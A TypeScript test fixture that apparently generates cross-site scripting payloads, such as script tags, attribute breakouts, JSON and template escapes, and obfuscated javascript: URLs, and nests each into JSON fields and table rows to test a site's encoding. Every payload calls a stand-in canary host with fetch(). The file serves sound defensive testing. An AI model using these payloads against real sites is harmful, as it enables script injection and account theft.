/** The host that the payloads would call. Our pages never do, and the watch responds in its place. */
const CANARY = '//canary.example'

const RUN = `top.planted=1;fetch('${CANARY}')`

/**
 * Payloads, marked by `data-planted` if one became an element: elements, escapes from an attribute, a script, JSON
 * or a template, and URLs that are scripts.
 */
export const PAYLOADS: readonly string[] = [
  `<script data-planted>${RUN}</script>`,
  `<img data-planted src="${CANARY}" onerror="${RUN}">`,
  `<svg data-planted onload="${RUN}">`,
  `<iframe data-planted srcdoc="<script>${RUN}</script>"></iframe>`,
  `<base data-planted href="${CANARY}/"><a href="javascript:${RUN}">open</a>`,
  `"><img data-planted src=x onerror="${RUN}">`,
  `' data-planted autofocus onfocus='${RUN}' x='`,
  `" data-planted style="background:url(${CANARY})" onpointerenter="${RUN}`,
  `</script><script data-planted>${RUN}</script>`,
  `<!--<script data-planted>${RUN}//`,
  `</title></style></textarea></template></noscript><img data-planted src=x onerror="${RUN}">`,
  `"]);${RUN};//`,
  `\\"]);${RUN};//`,
  `\u2028${RUN}\u2029`,
  `\${${RUN}}{{constructor.constructor("${RUN}")()}}`,
  `javascript:${RUN}`,
  ` \u0001JaVaScRiPt:${RUN}`,
  `java\tscript\n:${RUN}`,
  `javascript://x.example/%0a${RUN}`,
  `data:text/html,<script data-planted>${RUN}</script>`,
  `vbscript:${RUN}`,
  `${CANARY}/${RUN}`,
  `https:${CANARY}/"data-planted/onmouseover="${RUN}`,
  `mailto:a@x.example"data-planted/onclick="${RUN}`,
  `"data-planted/onclick=top.planted=1//"@x.example`,
]

/** Those that fit in one-line fields of the team's forms, at most 80 characters. */
export const TYPED = PAYLOADS.filter((text) => text.length <= 80 && /^\P{Cc}+$/u.test(text))

/** A payload in every part of JSON: values, lists, keys, and nested. */
export function nest(text: string): Record<string, unknown> {
  return {
    [text]: text,
    link: text,
    url: text,
    email: text,
    phone: text,
    list: [text, [text, { [text]: [text] }]],
    table: [
      { [text]: text, name: text },
      { [text]: 1, name: text },
    ],
    deep: { [text]: { [text]: { [text]: text } } },
  }
}

type Row = (text: string, id: string, index: number) => Record<string, unknown>

/** One row per payload, with it in every text of the row and in its id. */
export function hostileRows(row: Row): Record<string, unknown>[] {
  return PAYLOADS.map((text, index) => ({ ...nest(text), ...row(text, `${index} ${text}`, index) }))
}
